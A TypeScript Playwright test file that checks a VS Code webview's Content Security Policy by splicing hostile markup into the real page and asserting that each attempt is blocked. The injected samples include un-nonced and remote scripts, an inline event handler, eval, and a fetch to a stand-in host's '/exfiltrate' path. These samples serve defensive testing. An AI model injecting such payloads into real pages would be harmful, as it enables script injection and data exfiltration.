// The webview's Content Security Policy as an attacker meets it, in real Chromium: the production
// page (src/views/html.ts with its own nonce generator) is served with hostile markup spliced into its
// body, and every attempt must be blocked, seen as a `securitypolicyviolation` event (or, for files
// outside localResourceRoots, refused by the resource loader), while the real bundle still runs.
// A second origin stands for "remote": it counts every request that reaches it.
//
// VS Code serves a webview's files through its resource loader, which refuses anything outside
// localResourceRoots (src/views/webviewHost.ts: dist/webview only); the test server does the same.

import { test, before, after } from 'node:test';
import * as assert from 'node:assert/strict';
import * as http from 'node:http';
import * as path from 'node:path';
import { existsSync, readFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { makeNonce, renderPanelHtml } from '../../src/views/html';
import { launch, preparePage, root } from './harness';

interface Violation {
  directive: string;
  blocked: string;
  sample: string;
}
interface Served {
  url: string;
  requests: string[];
  close(): Promise<void>;
}

const LOCAL_RESOURCE_ROOT = path.join(root, 'dist', 'webview');
const TYPES: Record<string, string> = { '.js': 'text/javascript', '.css': 'text/css', '.ttf': 'font/ttf', '.png': 'image/png' };
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);

let browser: Browser;
let page: Served;
let remote: Served;

async function listen(
  handler: (req: http.IncomingMessage, res: http.ServerResponse, requests: string[]) => void,
): Promise<Served> {
  const requests: string[] = [];
  const server = http.createServer((req, res) => {
    requests.push(req.url ?? '');
    handler(req, res, requests);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, requests, close: () => new Promise((r) => server.close(() => r())) };
}

/** What an attacker who can put markup (and, separately, code) into the page tries. */
function attackMarkup(origin: string, remoteUrl: string, nonce: string): string {
  return `
<script>window.__pwned.push('inline script without nonce')</script>
<script src="${origin}/dist/webview/main.js"></script>
<script src="${remoteUrl}/evil.js"></script>
<img id="handler" src="data:," onerror="window.__pwned.push('inline event handler')">
<img id="remote-img" src="${remoteUrl}/pixel.png">
<link rel="stylesheet" href="${remoteUrl}/evil.css">
<style>body { --pwned: 1 }</style>
<img id="outside-roots" src="${origin}/media/icon.svg">
<script nonce="${nonce}">
  // Code that does run (as if it had got into the bundle) must still not reach eval or the network.
  window.__probe = {};
  try { eval('window.__pwned.push("eval")'); } catch (e) { window.__probe.eval = e.name; }
  try { new Function('window.__pwned.push("new Function")')(); } catch (e) { window.__probe.newFunction = e.name; }
  window.__probe.fetchRemote = fetch('${remoteUrl}/exfiltrate?data=1').then(() => 'loaded', (e) => 'blocked: ' + e.name);
  window.__probe.fetchOutside = fetch('${origin}/package.json').then(() => 'loaded', (e) => 'blocked: ' + e.name);
</script>`;
}

/** The production page at `/`; `?attack=1` splices in the hostile markup, `?csp=…` replaces the policy (oracle check). */
async function servePage(remoteUrl: string): Promise<Served> {
  return listen((req, res) => {
    const u = new URL(req.url ?? '/', 'http://x');
    const origin = `http://${req.headers.host}`;
    if (u.pathname === '/') {
      const nonce = makeNonce();
      let html = renderPanelHtml({
        cspSource: origin,
        nonce,
        mode: 'panel',
        scriptUri: `${origin}/dist/webview/main.js`,
        styleUri: `${origin}/dist/webview/main.css`,
        codiconsUri: `${origin}/dist/webview/codicons/codicon.css`,
      });
      const csp = u.searchParams.get('csp');
      if (csp) html = html.replace(/(http-equiv="Content-Security-Policy" content=")[^"]*/, `$1${csp}`);
      if (u.searchParams.get('attack')) html = html.replace('</body>', `${attackMarkup(origin, remoteUrl, nonce)}\n</body>`);
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(html);
      return;
    }
    // The resource loader: only files under localResourceRoots.
    const file = path.join(root, path.normalize(u.pathname));
    if (!file.startsWith(LOCAL_RESOURCE_ROOT + path.sep) || !existsSync(file)) {
      res.writeHead(404);
      res.end();
      return;
    }
    res.writeHead(200, { 'content-type': TYPES[path.extname(file)] ?? 'application/octet-stream' });
    res.end(readFileSync(file));
  });
}

before(async () => {
  if (!existsSync(path.join(LOCAL_RESOURCE_ROOT, 'main.js')))
    throw new Error('dist/webview/main.js is missing: run `npm run build` first');
  remote = await listen((req, res) => {
    const type = req.url?.endsWith('.png') ? 'image/png' : req.url?.endsWith('.css') ? 'text/css' : 'text/javascript';
    res.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*' });
    res.end(type === 'image/png' ? PIXEL : type === 'text/css' ? 'body { --remote: 1 }' : 'window.__pwned.push("remote script")');
  });
  page = await servePage(remote.url);
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await page?.close();
  await remote?.close();
});

/** A page with the VS Code stand-in and a violation log installed before any of the page's own code. */
async function open(query: string): Promise<Page> {
  const p = await browser.newPage();
  await preparePage(p, 'dark');
  await p.addInitScript(`(function () {
    window.__pwned = [];
    window.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', function (e) {
      window.__cspViolations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample || '' });
    });
  })()`);
  await p.goto(`${page.url}/${query}`);
  // The real bundle runs: it says ready and builds the panel.
  await p.waitForFunction(
    () => (window as any).__posted?.some((m: any) => m.type === 'ready') && (window as any).__gradientLens,
    null,
    { timeout: 60_000 },
  );
  return p;
}

const violations = (p: Page): Promise<Violation[]> => p.evaluate(() => (window as any).__cspViolations);

/** Waits (condition, generous deadline) for a violation of `directive` whose blocked URI matches. */
async function violation(p: Page, directive: string, blocked: RegExp): Promise<Violation> {
  const handle = await p
    .waitForFunction(
      ([d, source]) =>
        (window as any).__cspViolations.find((v: Violation) => v.directive === d && new RegExp(source).test(v.blocked)),
      [directive, blocked.source] as const,
      { timeout: 30_000 },
    )
    .catch(async () => {
      throw new Error(`no ${directive} violation for ${blocked}; seen: ${JSON.stringify(await violations(p))}`);
    });
  return (await handle.jsonValue()) as Violation;
}

test('the production page runs its real bundle under the CSP without a single violation', async () => {
  const p = await open('');
  assert.ok(await p.evaluate(() => document.querySelectorAll('#app *').length > 0), 'the panel was not built');
  const csp = await p.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  assert.match(csp ?? '', /script-src 'nonce-[A-Za-z0-9+/]{22}=='/, 'the nonce is 16 random bytes in base64');
  // Codicons (stylesheet and font) load through the allowed origin.
  assert.ok(
    await p.evaluate(async () => (await document.fonts.load('16px codicon')).length > 0),
    'the codicon font did not load',
  );
  assert.deepEqual(await violations(p), []);
  await p.close();
});

test("an attacker's markup and code are blocked, and the real bundle still runs", async () => {
  const p = await open('?attack=1');
  await violation(p, 'script-src-elem', /^inline$/);
  await violation(p, 'script-src-elem', /\/dist\/webview\/main\.js$/); // the bundle's own file, without the nonce
  await violation(p, 'script-src-elem', /\/evil\.js$/);
  await violation(p, 'script-src-attr', /^inline$/);
  await violation(p, 'script-src', /^eval$/);
  await violation(p, 'img-src', /\/pixel\.png$/);
  await violation(p, 'style-src-elem', /\/evil\.css$/);
  await violation(p, 'style-src-elem', /^inline$/);
  await violation(p, 'connect-src', /\/exfiltrate/);
  await violation(p, 'connect-src', /\/package\.json$/);
  const probe = await p.evaluate(async () => {
    const w = window as any;
    return {
      eval: w.__probe.eval,
      newFunction: w.__probe.newFunction,
      fetchRemote: await w.__probe.fetchRemote,
      fetchOutside: await w.__probe.fetchOutside,
    };
  });
  assert.deepEqual(probe, {
    eval: 'EvalError',
    newFunction: 'EvalError',
    fetchRemote: 'blocked: TypeError',
    fetchOutside: 'blocked: TypeError',
  });
  // A file of the extension outside localResourceRoots is refused by the loader.
  await p.waitForFunction(
    () => {
      const img = document.getElementById('outside-roots') as HTMLImageElement;
      return img.complete && img.naturalWidth === 0;
    },
    null,
    { timeout: 30_000 },
  );
  assert.deepEqual(await p.evaluate(() => (window as any).__pwned), [], 'hostile code ran');
  assert.deepEqual(remote.requests, [], 'a request reached the remote origin');
  assert.equal(page.requests.includes('/media/icon.svg'), true, 'the loader was asked for the file outside the roots');
  // The real bundle still works beside all this: it drew the panel.
  assert.ok(await p.evaluate(() => document.querySelectorAll('#app *').length > 0));
  await p.close();
});

test('the same probes see a weak policy: with default-src * the remote image and the un-nonced script get through', async () => {
  remote.requests.length = 0;
  const p = await open(`?attack=1&csp=${encodeURIComponent('default-src *')}`);
  await p.waitForFunction(() => (window as any).__pwned.includes('remote script'), null, { timeout: 30_000 });
  await p.waitForFunction(() => (document.getElementById('remote-img') as HTMLImageElement).naturalWidth === 1, null, {
    timeout: 30_000,
  });
  assert.ok(remote.requests.includes('/pixel.png'), 'the remote image was not requested');
  await p.close();
});
